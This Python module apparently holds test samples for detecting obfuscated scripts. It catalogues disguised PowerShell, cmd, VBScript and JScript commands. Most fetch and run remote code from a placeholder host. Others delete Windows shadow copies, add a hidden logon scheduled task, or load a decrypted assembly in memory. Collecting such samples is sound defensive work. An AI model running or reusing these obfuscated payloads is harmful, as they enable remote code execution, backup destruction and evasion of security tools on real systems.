"""Common disguises in the styles of well-known disguising tools, by name; each hides bad code.

Tokens, strings, encodings, packing and launchers for PowerShell; variables, loops and borrowed letters
for cmd; character codes, replacements and reversed texts for the script host.
"""

from __future__ import annotations

import base64
import gzip

_FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example/s')"


def _wide(code: str) -> str:
    return base64.b64encode(code.encode("utf-16-le")).decode()


def _join(code: str, separator: str, form: str = "d") -> str:
    return separator.join(f"{ord(char):{form}}" for char in code)


_PACKED = base64.b64encode(gzip.compress(_FETCH.encode(), mtime=0)).decode()
_SECRET = _join("".join(chr(ord(char) ^ 0x35) for char in _FETCH), ",")

POWERSHELL_VARIANTS: dict[str, str] = {
    "ticks": "I`EX (N`EW-OB`JECT NET.W`EBC`LIENT).\"Do`WN`LoadSt`Ring\"('http://cdn.example/s')",
    "get-command": "&(gcm *ke-ex*n) ((.(gcm n*-ob*) net.webclient).downloadstring('http://cdn.example/s'))",
    "env-iex": f". ($env:ComSpec[4,24,25] -join '') \"{_FETCH}\"",
    "pshome-iex": f"& ($PSHome[21]+$PSHome[34]+'x') \"{_FETCH}\"",
    "verbose-iex": f"\"{_FETCH}\" | .(([string]$VerbosePreference)[1,3]+'x' -join '')",
    "mdr-iex": f"'{_FETCH.replace(chr(39), chr(39) * 2)}' | & ((gv '*mdr*').Name[3,11,2] -join '')",
    "binary": "IEX (('"
    + _join(_FETCH, " ", "b")
    + "' -split ' ' | % { [char][Convert]::ToInt32($_, 2) }) -join '')",
    "octal": "$s='"
    + _join(_FETCH, "~", "o")
    + "'; iex ([string]::Join('', ($s.Split('~') | foreach { [char]([convert]::ToInt16($_.ToString(), 8)) })))",
    "hex-split": "-join('"
    + _join(_FETCH, "x", "02X")
    + "'.Split('x')|%{[char]([convert]::ToInt16($_,16))})|iex",
    "xor": f"({_SECRET} | % {{ [char]($_ -bxor 0x35) }}) -join '' | Invoke-Expression",
    "reversed": f"$x='{_FETCH[::-1].replace(chr(39), chr(39) * 2)}'; iex ($x[-1..-($x.Length)] -join '')",
    "array-reverse": f'$a = "{_FETCH[::-1]}".ToCharArray(); [array]::Reverse($a); iex (-join $a)',
    "regex-matches": f"iex (([regex]::Matches(\"{_FETCH[::-1]}\", '.', 'RightToLeft') | % {{ $_.Value }}) -join '')",
    "gzip": f"IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{_PACKED}'))), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()",
    "replace-chain": "iex (('IEX (New-Object Net.WebClient).DownloadString(QqZhttp://cdn.example/sQqZ)') -crEPlAcE 'QqZ',[char]39)",
    "script-block": f'[ScriptBlock]::Create("{_FETCH}").Invoke()',
    "execution-context": f'$ExecutionContext.InvokeCommand.InvokeScript("{_FETCH}")',
    "invoke-member": "$w = New-Object ('Net' + '.WebClient'); iex $w.('Down' + 'loadString').Invoke('http://cdn.example/s')",
    "set-item-variable": "Set-Item Variable:/q 'http://cdn.example/s'; Set-Variable w ([Net.WebClient]::New()); (Get-Variable w -ValueOnly).DownloadString((Get-Item Variable:/q).Value) | iex",
    "iwr-content": "iex (iwr 'http://cdn.example/s' -UseBasicParsing).Content",
    "encrypted-assembly": "$a=[Security.Cryptography.Aes]::Create();$a.Key=[byte[]](1..16);"
    "$b=$a.CreateDecryptor().TransformFinalBlock([byte[]](1..32),0,32);"
    "[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)",
    "launcher-stdin": f'cmd.exe /c "echo {_FETCH} | powershell -nop -"',
    "launcher-env": f'cmd /c "set q={_FETCH}&&powershell -nop iex $env:q"',
    "nested-encoded": "powershell -e " + _wide("powershell -enc " + _wide(_FETCH)),
}

_VSS = "vssadmin delete shadows /all /quiet"

CMD_VARIANTS: dict[str, str] = {
    "set-concatenation": 'cmd /c "set a=vss&&set b=admin del&&set c=ete shadows /all&&call %a%%b%%c%"',
    "late-concatenation": 'cmd /v:on /c "set a=vss&&set b=admin delete&&set c= shadows /all&&!a!!b!!c!"',
    "reversed": "@echo off\nsetlocal enabledelayedexpansion\n"
    f"set r={_VSS[::-1]}\nset o=\n"
    f"for /l %%i in ({len(_VSS) - 1},-1,0) do set o=!o!!r:~%%i,1!\n%o%\n!o!\n",
    "replaced": "@set x=vQsQsQadmin deQleQte shQadoQws /all\n@%x:Q=%",
    "comspec-letters": "@%comspec:~-7,1%%comspec:~-6,1%%comspec:~-5,1% /c " + _VSS,
    "program-files-letters": '@set a=%ProgramFiles:~3,1%owershell\n@%a% -c "' + _FETCH + '"',
    "for-value": "@for %%a in (vssadmin) do @for %%b in (delete) do @%%a %%b shadows /all",
    "borrowed-name": "FOR /F \"delims=f tokens=1\" %%x IN ('ftype^|findstr cmdf') DO %%x /c "
    + _VSS,
    "nested-carets": 'cm^d /c "cmd /c v^^s^^s^^a^^d^^m^^i^^n d^^e^^l^^e^^t^^e shadows /all"',
    "piped": f"@echo {_VSS}|cmd",
    "written-and-called": f"@echo @{_VSS}>%temp%\\x.cmd\n@call %temp%\\x.cmd",
    "written-with-set": "@<nul set /p=vssad>%temp%\\y.bat\n@echo min delete shadows /all>>%temp%\\y.bat\n@%temp%\\y.bat",
    "sub-routine": "@call :x vss admin\n@exit /b\n:x\n@%1%2 delete shadows /all",
    "lines-of-itself": '@for /f "tokens=2 delims=#" %%a in (\'findstr /b "::#" "%~f0"\') do @%%a\n'
    f"@exit /b\n::#{_VSS}#",
    "arithmetic-index": "@echo off\nset s=abdeilmnostvw \nset /a i=5*2+1\ncall set v=%%s:~%i%,1%%\n"
    "%v%ssadmin delete shadows /all",
    "fillers": "@v%a1%ss%b2%ad%c3%mi%d4%n d%e5%ele%f6%te sh%g7%adows /all",
    "errorlevel": "@tool.exe\n@if %errorlevel%==3 (" + _VSS + ")",
    "by-task": '@schtasks /create /tn x /sc onlogon /tr "cmd /c powershell -w hidden -e '
    + _wide(_FETCH)
    + '"',
}

_RUN = 'CreateObject("WScript.Shell").Run "' + _VSS + '"'

VBSCRIPT_VARIANTS: dict[str, str] = {
    "character-codes": "Execute " + " & ".join(f"Chr({ord(char)})" for char in _RUN),
    "character-sums": "s = Array(" + ",".join(str(ord(c) * 3 + 7) for c in _RUN) + ")\n"
    "For Each x In s : t = t & Chr((x - 7) / 3) : Next : ExecuteGlobal t",
    "reversed": 'Execute StrReverse("' + _RUN[::-1].replace('"', '""') + '")',
    "replaced": 'Execute Replace("' + _RUN.replace('"', '""').replace("s", "@@") + '", "@@", "s")',
    "split": 'For Each c In Split("'
    + _join(_RUN, "*")
    + '", "*") : r = r & ChrW(CInt(c)) : Next : Eval "Execute(r)" : Execute r',
    "hex-pairs": 'h = "' + _RUN.encode().hex() + '"\n'
    'For i = 1 To Len(h) Step 2 : r = r & Chr("&H" & Mid(h, i, 2)) : Next\nExecute r',
}

_NEW = f"new ActiveXObject('WScript.Shell').Run('{_VSS}')"

JSCRIPT_VARIANTS: dict[str, str] = {
    "character-codes": f"eval(String.fromCharCode({_join(_NEW, ',')}))",
    "escaped": "eval(unescape('" + "".join(f"%{ord(char):02x}" for char in _NEW) + "'))",
    "function-constructor": "this['Function'](\"" + _NEW + '")()',
    "string-table": "var t=['Run','WScript.Shell','" + _VSS + "','ActiveXObject'];"
    "(function(a,n){while(n--)a.push(a.shift())})(t,4);var g=function(i){return t[i-0x10]};"
    "var o=new this[g(0x13)](g(0x11));o[g(0x10)](g(0x12));",
    "reversed": "var f='"
    + _NEW[::-1].replace("'", "\\'")
    + "';(0,eval)(f.split('').reverse().join(''))",
    "replaced": "eval('" + _NEW.replace("'", "\\'").replace("e", "#") + "'.replace(/#/g,'e'))",
    "xor": "var d=["
    + _join("".join(chr(ord(c) ^ 77) for c in _NEW), ",")
    + "],r='';for(var i=0;i<d.length;i++)r+=String.fromCharCode(d[i]^77);new Function(r)()",
}
